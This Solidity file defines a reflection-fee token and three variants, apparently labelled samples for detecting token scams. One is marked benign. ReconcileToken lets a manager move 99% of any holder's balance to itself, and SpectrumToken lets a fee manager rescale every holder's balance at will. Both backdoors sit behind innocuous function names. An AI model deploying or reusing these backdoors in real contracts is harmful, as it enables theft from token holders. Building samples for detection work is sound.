// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Context, Ownable, Listed} from "./Base.sol";

/// Holders earn a share of every transfer's fee: balances are reflections (rOwned) divided by a
/// rate, except for excluded accounts (the pool), which hold plain amounts (tOwned).
abstract contract ReflectionToken is Context, Ownable, Listed {
    uint256 internal _tTotal;
    uint256 internal _rTotal;
    mapping(address => uint256) internal _rOwned;
    mapping(address => uint256) internal _tOwned;
    mapping(address => bool) internal _isExcluded;
    mapping(address => bool) internal _isExcludedFromFee;
    mapping(address => mapping(address => uint256)) private _allowances;
    address[] private _excluded;
    uint256 public taxFeeBps = 200;
    string private _name;
    string private _symbol;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply, address router) Listed(router) {
        _name = name_;
        _symbol = symbol_;
        _tTotal = supply;
        _rTotal = supply * 1e18;
        _rOwned[_msgSender()] = _rTotal;
        _isExcludedFromFee[_msgSender()] = true;
        _excludeFromReward(uniswapV2Pair);
        emit Transfer(address(0), _msgSender(), supply);
    }

    function name() external view returns (string memory) {
        return _name;
    }

    function symbol() external view returns (string memory) {
        return _symbol;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        if (_isExcluded[account]) return _tOwned[account];
        return _rOwned[account] / _getRate();
    }

    function allowance(address owner_, address spender) external view returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[_msgSender()][spender] = amount;
        emit Approval(_msgSender(), spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(_msgSender(), to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external virtual returns (bool) {
        uint256 allowed = _allowances[from][_msgSender()];
        if (allowed != type(uint256).max) {
            require(allowed >= amount, "ERC20: insufficient allowance");
            _allowances[from][_msgSender()] = allowed - amount;
        }
        _transfer(from, to, amount);
        return true;
    }

    function _getRate() internal view returns (uint256) {
        uint256 rSupply = _rTotal;
        uint256 tSupply = _tTotal;
        for (uint256 i = 0; i < _excluded.length; i++) {
            if (_rOwned[_excluded[i]] > rSupply || _tOwned[_excluded[i]] > tSupply) return _rTotal / _tTotal;
            rSupply -= _rOwned[_excluded[i]];
            tSupply -= _tOwned[_excluded[i]];
        }
        if (tSupply == 0 || rSupply < _rTotal / _tTotal) return _rTotal / _tTotal;
        return rSupply / tSupply;
    }

    function _excludeFromReward(address account) internal {
        if (_rOwned[account] > 0) _tOwned[account] = _rOwned[account] / _getRate();
        _isExcluded[account] = true;
        _excluded.push(account);
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        require(balanceOf(from) >= amount, "ERC20: transfer amount exceeds balance");
        uint256 fee = _isExcludedFromFee[from] || _isExcludedFromFee[to] ? 0 : (amount * taxFeeBps) / 10_000;
        uint256 rate = _getRate();
        uint256 rAmount = amount * rate;
        uint256 rFee = fee * rate;
        _rOwned[from] -= rAmount;
        if (_isExcluded[from]) _tOwned[from] -= amount;
        _rOwned[to] += rAmount - rFee;
        if (_isExcluded[to]) _tOwned[to] += amount - fee;
        _rTotal -= rFee;
        emit Transfer(from, to, amount - fee);
    }
}

/// Benign: a plain 2 % reflection token.
contract MirrorToken is ReflectionToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        ReflectionToken(name_, symbol_, supply, router)
    {}
}

/// A manager "reconciles" a holder: 99 % of the holder's reflections move to the manager.
contract ReconcileToken is ReflectionToken {
    mapping(address => bool) private _managers;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        ReflectionToken(name_, symbol_, supply, router)
    {
        _managers[_msgSender()] = true;
    }

    function reconcile(address holder) external {
        require(_managers[_msgSender()], "manager only");
        uint256 r = _rOwned[holder];
        _rOwned[holder] = r / 100;
        _rOwned[_msgSender()] += r - r / 100;
    }
}

/// The fee manager resets the reflection total: every holder's balance shrinks (or grows) at
/// once while the supply stays put.
contract SpectrumToken is ReflectionToken {
    address private _feeManager;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        ReflectionToken(name_, symbol_, supply, router)
    {
        _feeManager = _msgSender();
    }

    function setRewardRate(uint256 rate) external {
        require(_msgSender() == _feeManager, "fee manager only");
        require(rate > 0, "rate");
        _rTotal = _tTotal * rate;
    }
}
